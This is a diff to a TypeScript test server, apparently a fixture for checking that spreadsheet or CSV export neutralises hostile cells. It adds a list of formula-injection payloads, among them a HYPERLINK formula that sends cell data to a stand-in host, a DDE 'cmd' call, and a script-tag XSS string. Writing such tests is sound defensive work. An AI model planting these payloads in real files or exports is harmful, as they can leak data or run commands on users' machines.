@@ -1,3 +1,4 @@
+import { randomBytes } from 'node:crypto';
 import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
 import { parentPort } from 'node:worker_threads';
 import { jsonStringsOf, spellingsOf } from './spellings.ts';
@@ -5,6 +6,12 @@ import { jsonStringsOf, spellingsOf } from './spellings.ts';
 /** An upstream whose path selects what it does: respond with much data, slowly, with an error, or with the secret. */
 const handlers: Readonly<Record<string, (url: URL, response: ServerResponse) => void>> = {
   '/rows': (_url, response) => send(response, ROWS),
+  '/sheet': (url, response) => {
+    const count = Number(url.searchParams.get('rows') ?? 0);
+    const rowAt = url.searchParams.has('noise') ? noisyRow : plainRow;
+    const more = Array.from({ length: count }, (_, n) => rowAt(n));
+    send(response, `{"rows":[${[...HOSTILE_ROWS, ...more].join(',')}]}`);
+  },
   '/large': (url, response) => {
     const bytes = Number(url.searchParams.get('mib') ?? 1) * 1024 * 1024;
     send(response, `{"text":"${'x'.repeat(bytes - 16)}"}`);
@@ -36,6 +43,33 @@ const handlers: Readonly<Record<string, (url: URL, response: ServerResponse) => 
 const ROWS = JSON.stringify({
   rows: Array.from({ length: 40 }, (_, n) => ({ id: `row-${n}`, name: '서울특별시', value: n })),
 });
+
+/** Cells with which spreadsheets begin a formula, or browsers a page. */
+const HOSTILE_CELLS = [
+  '=1+1',
+  '=HYPERLINK("http://evil.invalid?"&A1)',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3+cmd',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '＝1+1',
+  '＋1',
+  '－1a',
+  '＠a',
+  '","=1+1',
+  '"\r\n=1+1',
+  '<script>alert(1)</script>',
+];
+const HOSTILE_ROWS = HOSTILE_CELLS.map(
+  (cell) =>
+    `{"name":${JSON.stringify(cell)},"=column":${JSON.stringify(`x${cell}`)},"value":-12.50}`,
+);
+const plainRow = (n: number): string => `{"name":"서울특별시 ${n}","=column":"x","value":${n}.50}`;
+const noisyRow = (n: number): string =>
+  `{"name":"${randomBytes(12).toString('base64')}","=column":"x","value":${n}.50}`;
 
 let waiting = 0;
 
